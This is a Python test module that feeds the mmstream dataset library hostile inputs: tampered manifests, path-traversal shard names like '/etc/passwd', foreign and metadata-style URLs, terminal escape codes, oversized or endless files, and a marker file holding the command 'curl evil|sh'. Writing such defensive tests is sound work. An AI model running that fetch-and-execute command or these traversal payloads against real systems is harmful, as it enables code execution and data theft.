"""Attacks by manifests, bad lists, indexes, and files that are not files."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

import mmstream as mm
from mmstream.dataset.index import HEADER_BYTES, ROW, sample_checksum
from mmstream.dataset.index_tars import index_tars
from mmstream.dataset.manifest import index_part_name
from tests.helpers.corpora import write_corpus
from tools.prove.attacks.attack import Attack, train

SHARD = "shard-000000.tar"

NO_INDEX = "no index shard-"
"""What is said where a part of an index cannot be used, and nothing else says where samples lie."""


def _with_manifest(change: Callable[[dict[str, Any]], object]) -> Callable[[Path], None]:
    """Train on a corpus whose manifest was changed by a stranger."""

    def run(folder: Path) -> None:
        write_corpus(folder, [12, 8])
        path = folder / "mmstream.json"
        manifest = json.loads(path.read_bytes())
        manifest.pop("crc32c", None)  # the stranger wrote the file, so nothing seals it
        change(manifest)
        path.write_text(json.dumps(manifest))
        train(folder)

    return run


def _with_bytes(name: str, data: bytes) -> Callable[[Path], None]:
    """Train on a corpus where one file has other bytes."""

    def run(folder: Path) -> None:
        write_corpus(folder, [12, 8])
        (folder / name).write_bytes(data)
        train(folder, bad_samples=mm.BadSamplePolicy(quarantine=None))

    return run


def _with_special(name: str, kind: str) -> Callable[[Path], None]:
    """Train on a corpus where one file is a special file."""

    def run(folder: Path) -> None:
        write_corpus(folder, [12, 8])
        path = folder / name
        path.unlink(missing_ok=True)
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "folder":
            path.mkdir()
        elif kind == "sparse":
            with path.open("wb") as file:
                file.truncate(1 << 40)
        else:
            path.symlink_to(kind)
        train(folder, bad_samples=mm.BadSamplePolicy(quarantine=None))

    return run


def _with_part(
    change: Callable[[bytes], bytes], num_bytes: int | None = None
) -> Callable[[Path], None]:
    """Train on a corpus whose index has a part of a stranger, and no other index.

    Args:
        change: Makes the bytes of the part.
        num_bytes: The file gets this size, with a hole at its end.
    """

    def run(folder: Path) -> None:
        write_corpus(folder, [12, 8])
        index_tars(folder, progress=False)
        path = folder / "mmstream.json"
        manifest = json.loads(path.read_bytes())
        manifest.pop("crc32c")
        (part,) = manifest["index_parts"]
        data = change((folder / part["name"]).read_bytes())
        part["sha256"] = hashlib.sha256(data).hexdigest()
        part["name"] = index_part_name(part["sha256"])
        part["num_bytes"] = num_bytes or len(data)
        path.write_text(json.dumps(manifest))
        (folder / part["name"]).write_bytes(data)
        os.truncate(folder / part["name"], part["num_bytes"])
        for index in folder.glob("*.idx"):
            index.unlink()
        train(folder, bad_samples=mm.BadSamplePolicy(quarantine=None))

    return run


def _with_row(**values: int) -> Callable[[bytes], bytes]:
    """Return what changes the row of the first shard in a part, and seals the table again."""

    def change(data: bytes) -> bytes:
        table = np.frombuffer(data, ROW, 2, HEADER_BYTES).copy()
        for name, value in values.items():
            table[name][0] = value
        content = table.tobytes()
        seal = sample_checksum(content).to_bytes(4, "little")
        return data[:12] + seal + content + data[HEADER_BYTES + len(content) :]

    return change


def _shard(**values: Any) -> Callable[[dict[str, Any]], object]:
    return lambda manifest: manifest["shards"][0].update(values)


def _data_url(url: str) -> Callable[[Path], None]:
    return _with_manifest(lambda manifest: manifest.update(data_url=url))


def _same_shard_twice(manifest: dict[str, Any]) -> None:
    manifest["shards"][1] = {**manifest["shards"][0], "name": f"./{SHARD}"}


def _huge_bad_list(manifest: dict[str, Any]) -> None:
    manifest["shards"][0] |= {"num_samples": 10**12, "num_bytes": 10**12 * 512}
    bad = {"version": 1, "bad": {SHARD: "all"}}
    Path("mmstream.bad.json").write_text(json.dumps(bad))


def _many_huge_shards(manifest: dict[str, Any]) -> None:
    count = (1 << 50) - 1
    manifest["shards"] = [
        {"name": f"{n}.tar", "num_samples": count, "num_bytes": count} for n in range(16_385)
    ]


def _other_marker(folder: Path) -> None:
    command = "curl evil|sh\n\x1b[2J"
    (folder / "mmstream.unfinished.json").write_text(json.dumps({"command": command}))
    train(folder)


def _bad_list(content: object) -> Callable[[Path], None]:
    return _with_bytes("mmstream.bad.json", json.dumps(content).encode())


NAMES = (
    "/etc/passwd",
    "../x.tar",
    "a/../b.tar",
    "a//b.tar",
    "./a.tar",
    "a/",
    "",
    "a\0.tar",
    "a\n.tar",
    "s3://other/x.tar",
    "http://127.0.0.1:9/x.tar",
    "file:///x.tar",
)
FOREIGN_URLS = (
    "/",
    "/etc",
    "..",
    "http://127.0.0.1:9/latest/meta-data",
    "s3://other/prefix",
    "file:///",
    "memory://other",
)

ATTACKS = (
    *(
        Attack(f"manifest: the shard name {name!r}", _with_manifest(_shard(name=name)), "json")
        for name in NAMES
    ),
    *(
        Attack(
            f"manifest: data_url {url}",
            _data_url(url),
            "allow_foreign_urls",
        )
        for url in FOREIGN_URLS
    ),
    Attack("manifest: a shard under two names", _with_manifest(_same_shard_twice), "json"),
    Attack("manifest: more samples than blocks", _with_manifest(_shard(num_samples=10**6)), "json"),
    Attack("manifest: a negative count", _with_manifest(_shard(num_samples=-1)), "json"),
    Attack("manifest: 2^64 samples", _with_manifest(_shard(num_samples=1 << 64)), "json"),
    Attack("manifest: a count that is not whole", _with_manifest(_shard(num_samples=1.5)), "json"),
    Attack("manifest: 16,385 shards of 2^50 samples", _with_manifest(_many_huge_shards), "json"),
    Attack(
        "manifest: nested a million times", _with_bytes("mmstream.json", b"[" * 1_000_000), "json"
    ),
    Attack(
        "manifest: nested in its source",
        _with_bytes("mmstream.json", b'{"version":1,"shards":[],"source":{"a":' + b"[" * 1_000_000),
        "json",
    ),
    Attack("manifest: no JSON", _with_bytes("mmstream.json", b"\x00\xff"), "json"),
    Attack("manifest: an endless one", _with_special("mmstream.json", "/dev/zero"), "json", True),
    Attack("manifest: a terabyte of nothing", _with_special("mmstream.json", "sparse"), "json"),
    Attack("manifest: a pipe", _with_special("mmstream.json", "fifo"), "json", True),
    Attack("bad list: all of 10^12 samples", _with_manifest(_huge_bad_list), "json"),
    Attack(
        "bad list: an index out of range",
        _bad_list({"version": 1, "bad": {SHARD: [12]}}),
        "bad.json",
    ),
    Attack(
        "bad list: a negative index", _bad_list({"version": 1, "bad": {SHARD: [-1]}}), "bad.json"
    ),
    Attack(
        "bad list: another shard",
        _bad_list({"version": 1, "bad": {"\x1b[2J.tar": [1]}}),
        "bad.json",
    ),
    Attack(
        "bad list: nested a million times",
        _with_bytes("mmstream.bad.json", b"[" * 1_000_000),
        "bad.json",
    ),
    Attack(
        "bad list: an endless one",
        _with_special("mmstream.bad.json", "/dev/zero"),
        "bad.json",
        True,
    ),
    Attack("bad list: a pipe", _with_special("mmstream.bad.json", "fifo"), "bad.json", True),
    Attack("index: a pipe", _with_special(f"{SHARD}.idx", "fifo"), SHARD),
    Attack("index: an endless one", _with_special(f"{SHARD}.idx", "/dev/zero"), SHARD),
    Attack("index: a terabyte of nothing", _with_special(f"{SHARD}.idx", "sparse"), SHARD),
    Attack("index: a folder", _with_special(f"{SHARD}.idx", "folder"), SHARD),
    Attack(
        "index: offsets that descend",
        _with_bytes(f"{SHARD}.idx", (1024).to_bytes(8, "little") * 13),
        SHARD,
    ),
    Attack(
        "index: offsets beyond the tar",
        _with_bytes(f"{SHARD}.idx", b"".join((n << 50).to_bytes(8, "little") for n in range(13))),
        SHARD,
    ),
    Attack("index: too few offsets", _with_bytes(f"{SHARD}.idx", bytes(8)), SHARD),
    Attack("index: no whole offsets", _with_bytes(f"{SHARD}.idx", bytes(13)), SHARD),
    Attack(
        "index part: a terabyte of nothing", _with_part(lambda data: data, 1 << 40), SHARD, True
    ),
    Attack("index part: cut off", _with_part(lambda data: data[:50]), NO_INDEX),
    Attack("index part: of 2^32 shards", _with_part(lambda data: data[:8] + b"\xff" * 8), NO_INDEX),
    Attack("index part: zeros", _with_part(lambda data: bytes(len(data))), NO_INDEX),
    Attack("index part: 2^32 samples", _with_part(_with_row(num_samples=0xFFFFFFFF)), NO_INDEX),
    Attack("index part: columns far away", _with_part(_with_row(offset=(1 << 64) - 8)), NO_INDEX),
    Attack("index part: samples after the end", _with_part(_with_row(stop=1 << 48)), NO_INDEX),
    Attack("index part: a tar of an exabyte", _with_part(_with_row(num_bytes=1 << 60)), NO_INDEX),
    Attack("index part: long lengths", _with_part(_with_row(flags=3)), NO_INDEX),
    Attack("shard: a pipe", _with_special(SHARD, "fifo"), SHARD),
    Attack("shard: a device", _with_special(SHARD, "/dev/zero"), SHARD),
    Attack("shard: a folder", _with_special(SHARD, "folder"), SHARD),
    Attack("folder: a marker with a command of the stranger", _other_marker, "not finished"),
)
